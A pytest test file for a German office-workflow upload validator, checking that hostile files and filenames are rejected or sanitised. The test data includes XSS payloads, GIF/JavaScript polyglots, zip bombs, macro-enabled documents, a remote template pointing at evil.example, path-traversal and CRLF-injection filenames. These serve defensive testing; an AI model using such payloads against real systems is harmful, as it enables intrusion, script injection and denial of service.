"""Files are inert (ZUSAGEN I9): what is not what it claims, or would do something, is not let in."""

import zipfile
from io import BytesIO
from struct import pack_into

import pytest

from kimflow.exports.tabelle_xlsx import schreiben
from kimflow.exports.tabellen import Spalte, Tabelle
from kimflow.models import Dateiart
from kimflow.models.dateien import HOECHSTENS_BYTES
from kimflow.workflow import dateicontainer
from kimflow.workflow.dateicontainer import Unzulaessig
from kimflow.workflow.dateien import bereinigt, pruefen
from tests.bauen.dateien import PDF, docx, gepackt, jpg, ods, odt, ooxml, png, png_mit_text

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
GIF_JS = b"GIF89a/*" + b"\0" * 20 + b"*/=alert(1);//\0;"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
NULLEN = b"\0" * (30 * 1024 * 1024)
INNERE_BOMBE = gepackt({"a": b"", "b": NULLEN[:10_000_000]})
MAKRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
VORLAGE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" '
    b'TargetMode="External"/></Relationships>'
)


def _verschluesselt() -> bytes:
    """The same zip, each part marked as encrypted."""
    content = bytearray(ooxml())
    with zipfile.ZipFile(BytesIO(content)) as archive:
        places = [(part.header_offset, part.filename) for part in archive.infolist()]
    for place, _ in places:
        pack_into("<H", content, place + 6, 1)
    at = -1
    while (at := content.find(b"PK\x01\x02", at + 1)) >= 0:
        pack_into("<H", content, at + 8, 1)
    return bytes(content)


def _verlogen() -> bytes:
    """A part of thirty megabytes that says it has five."""
    content = bytearray(ooxml(word__viel_x_xml=NULLEN))
    real = len(NULLEN).to_bytes(4, "little")
    assert content.count(real) == 2
    return bytes(content).replace(real, (5).to_bytes(4, "little"))


def _ueberlagert() -> bytes:
    """Two entries of the list of contents that share the same packed bytes."""
    content = bytearray(gepackt({"mimetype": b"x", "a.xml": b"y" * 4000, "b.xml": b"y" * 4000}))
    with zipfile.ZipFile(BytesIO(content)) as archive:
        first, second = archive.infolist()[1:]
    entry = content.rfind(b"PK\x01\x02")
    pack_into("<I", content, entry + 42, first.header_offset)
    assert second.header_offset != first.header_offset
    return bytes(content)


def _doppelt() -> bytes:
    return gepackt({"[Content_Types].xml": b"x", "word/document.xml": b"1", "word/Document.xml": b"2"})


def _beschaedigt() -> bytes:
    """One byte of what is packed is another."""
    content = bytearray(odt())
    content[len(content) // 2] ^= 0xFF
    return bytes(content)


BOESE: dict[str, tuple[str, bytes, str]] = {
    "leer": ("x.pdf", b"", "leer"),
    "zu groß": ("x.pdf", PDF + b"0" * HOECHSTENS_BYTES, "größer als 10 MB"),
    "Programm": ("x.exe", b"MZ" + b"\0" * 500, "Erlaubt sind nur"),
    "Programm als PDF": ("x.pdf", b"MZ" + b"\0" * 500, "keine PDF"),
    "doppelte Endung": ("Bericht.pdf.exe", PDF, "Erlaubt sind nur"),
    "Endung hinter einem NUL": ("Bericht.pdf\0.html", PDF, "Erlaubt sind nur"),
    "ohne Endung": ("Bericht", PDF, "Erlaubt sind nur"),
    "HTML": ("x.html", HTML, "Erlaubt sind nur"),
    "HTML als PDF": ("x.pdf", HTML, "keine PDF"),
    "HTML im Kopf eines PDF": ("x.pdf", b"%PDF-1.4\n%" + HTML + PDF[9:], "zugleich etwas anderes"),
    "HTML vor dem PDF": ("x.pdf", HTML + PDF, "keine PDF"),
    "PDF mit angehängtem Archiv": ("x.pdf", PDF + ooxml() + b"\n%%EOF startxref", "zugleich etwas anderes"),
    "abgeschnittenes PDF": ("x.pdf", PDF[:60], "unvollständig"),
    "SVG": ("x.svg", SVG, "Erlaubt sind nur"),
    "SVG als PNG": ("x.png", SVG, "kein PNG"),
    "XML als DOCX": ("x.docx", b"<?xml version='1.0'?><w/>", "keine DOCX"),
    "XML": ("x.xml", b"<?xml version='1.0'?><w/>", "Erlaubt sind nur"),
    "GIF und JavaScript zugleich": ("x.png", GIF_JS, "kein PNG"),
    "GIF und JavaScript zugleich als JPG": ("x.jpg", GIF_JS, "kein JPG"),
    "PNG als JPG": ("x.jpg", png(), "kein JPG"),
    "abgeschnittenes PNG": ("x.png", png()[:-6], "kein vollständiges PNG"),
    "PNG mit falscher Summe": ("x.png", png().replace(b"IDAT", b"IDAt"), "kein vollständiges PNG"),
    "PNG mit Anhang": ("x.png", png() + HTML, "kein vollständiges PNG"),
    "PNG mit Skript im Kommentar": ("x.png", png_mit_text(HTML), "zugleich etwas anderes"),
    "PNG mit zu vielen Bildpunkten": ("x.png", png(60_000, 60_000), "zu viele Bildpunkte"),
    "PNG ohne Bildpunkte": ("x.png", png(0, 1), "keine Bildpunkte"),
    "abgeschnittenes JPG": ("x.jpg", jpg()[:-2], "kein vollständiges JPG"),
    "JPG mit PDF darin": ("x.jpg", jpg(kommentar=PDF), "zugleich etwas anderes"),
    "JPG mit Skript im Kommentar": ("x.jpg", jpg(kommentar=HTML), "zugleich etwas anderes"),
    "JPG mit angehängtem Archiv": ("x.jpg", jpg() + ooxml(), "zugleich etwas anderes"),
    "JPG mit zu vielen Bildpunkten": ("x.jpg", jpg(breite=60_000, hoehe=60_000), "zu viele Bildpunkte"),
    "Zip-Bombe": ("x.docx", ooxml(word__a_x_xml=NULLEN, word__b_x_xml=NULLEN, word__c_x_xml=NULLEN,
                                  word__d_x_xml=NULLEN), "entpackt zu groß"),
    "Verhältnis über 100": ("x.xlsx", ooxml("xlsx", xl__a_x_xml=NULLEN[:20_000_000]), "entpackt zu groß"),
    "Bombe, die sich kleiner nennt": ("x.docx", _verlogen(), "beschädigt"),
    "Bombe aus überlagerten Teilen": ("x.odt", _ueberlagert(), "überlagern"),
    "Bombe in der Bombe": ("x.docx", ooxml(word__x_x_zip=INNERE_BOMBE), "weitere Datei"),
    "Archiv darin": ("x.xlsx", ooxml("xlsx", xl__y_x_bin=gepackt({"a": b"b"})), "weitere Datei"),
    "Programm darin": ("x.docx", ooxml(word__media__bild_x_png=b"MZ\x90" + b"\0" * 99), "weitere Datei"),
    "zu viele Teile": ("x.docx", gepackt({f"{n}": b"" for n in range(5_001)}, stufe=1), "zu vielen Teilen"),
    "gewöhnliches Archiv": ("x.docx", gepackt({"a.txt": b"x"}), "keine DOCX"),
    "Archiv mit Endung zip": ("x.zip", gepackt({"a.txt": b"x"}), "Erlaubt sind nur"),
    "DOCM mit Namen DOCX": ("x.docx", ooxml(haupttyp=MAKRO), "Makros"),
    "DOCX mit Makros": ("x.docx", ooxml(word__vbaProject_x_bin=b"x"), "Makros"),
    "XLSX mit Makroblatt": ("x.xlsx", ooxml("xlsx", xl__macrosheets__sheet1_x_xml=b"<x/>"), "Makros"),
    "ODS mit Makros": ("x.ods", ods(Basic__Standard=b"<x/>"), "Makros"),
    "Vorlage aus dem Netz": ("x.docx", ooxml(word___rels__settings_x_xml_x_rels=VORLAGE), "aus dem Netz"),
    "XLSX mit Namen DOCX": ("x.docx", ooxml("xlsx"), "keine DOCX"),
    "ODS mit Namen ODT": ("x.odt", ods(), "keine ODT"),
    "DOCX mit falschem Inhaltstyp": ("x.docx", ooxml(haupttyp="text/html"), "keine DOCX"),
    "verschlüsseltes Office": ("x.docx", OLE, "Kennwort"),
    "verschlüsseltes Archiv": ("x.docx", _verschluesselt(), "Kennwort"),
    "verschlüsseltes ODS": ("x.ods", ods(b"<manifest><encryption-data/></manifest>"), "Kennwort"),
    "Teil außerhalb": ("x.docx", ooxml(word__x=b"").replace(b"word/x", b"../../"), "unzulässigen Namen"),
    "Teil mit Laufwerk": ("x.docx", ooxml(CCCWindows=b"").replace(b"CCCWindows", b"C:\\Windows"), "unzulässigen Namen"),
    "zwei Teile gleichen Namens": ("x.docx", _doppelt(), "unzulässigen Namen"),
    "Entitäten": ("x.docx", ooxml(word__s_x_xml=b'<!DOCTYPE x [<!ENTITY a "b">]>'), "nichts zu suchen"),
    "etwas vor dem Archiv": ("x.docx", b"#!/bin/sh\n" + ooxml(), "keine DOCX"),
    "etwas hinter dem Archiv": ("x.docx", ooxml() + HTML, "keine DOCX"),
    "beschädigtes Archiv": ("x.odt", _beschaedigt(), "beschädigt"),
}  # fmt: skip


@pytest.mark.parametrize("art", BOESE)
def test_was_nicht_ist_was_es_heisst_wird_abgelehnt(art):
    """I9 P0: hostile files, each with a German reason."""
    name, content, reason = BOESE[art]
    with pytest.raises(Unzulaessig, match=reason):
        pruefen(name, content)


GUT = {
    "pdf": ("Bericht 22.11.2026.PDF", PDF),
    "docx": ("Vermerk.docx", docx()),
    "xlsx": ("Zahlen.xlsx", schreiben([Tabelle("Blatt", [Spalte("a")], [["1"]])])),
    "odt": ("Vermerk.odt", odt()),
    "ods": ("Zahlen.ods", ods()),
    "png": ("Foto.png", png_mit_text(b"aufgenommen im Kreishaus")),
    "jpg": ("Foto.JPEG", jpg() + b"\xff\xd8 eine Vorschau"),
}


@pytest.mark.parametrize("art", GUT)
def test_was_ein_amt_speichert_wird_angenommen(art):
    """I9 P0: the seven kinds, as real programs write them."""
    name, content = GUT[art]
    kind, shown = pruefen(name, content)
    assert kind == Dateiart(art)
    assert shown.endswith(f".{art}")
    assert shown.startswith(name.rpartition(".")[0])


def test_eine_bombe_wird_abgelehnt_ohne_sie_zu_entpacken(monkeypatch):
    """I9 P0: what the list of contents admits is enough; not one part is opened."""
    monkeypatch.setattr(dateicontainer, "_teile", lambda *_: pytest.fail("es wurde entpackt"))
    for art in ("Zip-Bombe", "Verhältnis über 100", "Bombe aus überlagerten Teilen"):
        with pytest.raises(Unzulaessig):
            pruefen(*BOESE[art][:2])


def test_eine_verlogene_bombe_wird_nie_weiter_entpackt_als_sie_sagt(monkeypatch):
    """I9 P0: five bytes were promised, five are read."""
    read = []

    class Zaehlend(zipfile.ZipExtFile):
        def read(self, n=-1):
            read.append(super().read(n))
            return read[-1]

    monkeypatch.setattr(zipfile, "ZipExtFile", Zaehlend)
    with pytest.raises(Unzulaessig):
        pruefen("x.docx", _verlogen())
    assert read
    assert max(map(len, read)) < 10_000


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Windows\\system32\\x.pdf", "x.pdf"),
        ("/absolut/y.pdf", "y.pdf"),
        ("a\0b.pdf", "ab.pdf"),
        ("rechnung\u202efdp.exe.pdf", "rechnungfdp.exe.pdf"),
        ("\u202e\u2066.pdf", "Datei.pdf"),
        ("zeile\r\nSet-Cookie: a=b.pdf", "zeile Set-Cookie_ a=b.pdf"),
        ('<img src=x onerror="alert(1)">.pdf', "_img src=x onerror=_alert(1)__.pdf"),
        ("...pdf", "Datei.pdf"),
        (".htaccess", "Datei.htaccess"),
        ("CON.pdf", "_CON.pdf"),
        ("lpt1.x.pdf", "_lpt1.x.pdf"),
        ("Übersicht Maßnahmen 2026.PdF", "Übersicht Maßnahmen 2026.pdf"),
        ("x.p\u200bdf", "x.pdf"),
        ("", "Datei"),
        ("..", "Datei"),
        ("a" * 500 + ".pdf", "a" * 116 + ".pdf"),
        ("x." + "y" * 500, "x." + "y" * 10),
    ],
)
def test_ein_name_fuehrt_nirgendwohin(sent, kept):
    """I9 P0: path, drive, NUL, line break, override, device, length."""
    assert bereinigt(sent) == kept
    assert len(kept) <= 120
